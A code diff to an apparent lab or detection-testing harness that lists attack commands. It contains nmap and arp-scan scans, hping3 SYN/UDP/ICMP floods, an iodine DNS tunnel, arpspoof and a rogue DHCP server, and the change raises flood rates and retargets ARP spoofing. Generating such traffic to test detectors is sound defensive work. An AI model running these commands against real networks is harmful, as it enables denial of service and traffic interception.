@@ -89,11 +89,12 @@ ATTACKS = (
            _command("nmap -n --max-retries 0 -Pn -sS -p 22 --max-rate 100 198.51.100.0/24")),
     Attack("arp-scan", "arp_scan", _command("arp-scan -q -I eth0 10.244.1.0/24")),
     Attack("hping3 -S", "syn_flood", _command("hping3 -q -S -p 80 -i u500 -c 12000 {victim}"), names="victim"),
-    Attack("hping3 --udp", "udp_flood", _command("hping3 -q --udp -p 9999 -d 32 -i u400 -c 20000 {victim}"),
+    Attack("hping3 --udp", "udp_flood", _command("hping3 -q --udp -p 9999 -d 32 -i u300 -c 24000 {victim}"),
            names="victim"),
-    Attack("hping3 --icmp", "icmp_flood", _command("hping3 -q --icmp -i u400 -c 20000 {victim}"), names="victim"),
+    Attack("hping3 --icmp", "icmp_flood", _command("hping3 -q --icmp -i u300 -c 24000 {victim}"), names="victim"),
     Attack("iodine", "dns_tunnel", _iodine, rounds=1),
-    Attack("arpspoof", "arp_spoof", _command(f"arpspoof -i eth0 -t {{victim}} {GATEWAY4}")),
+    # Another victim's address each time: of one that is contested already, a second spoofer is not told apart.
+    Attack("arpspoof", "arp_spoof", _command(f"arpspoof -i eth0 -t {BY_NAME['client1'].ip4} {{victim}}"), rounds=3),
     Attack("dnsmasq", "rogue_dhcp", _rogue_dhcp),
 )  # fmt: skip
 
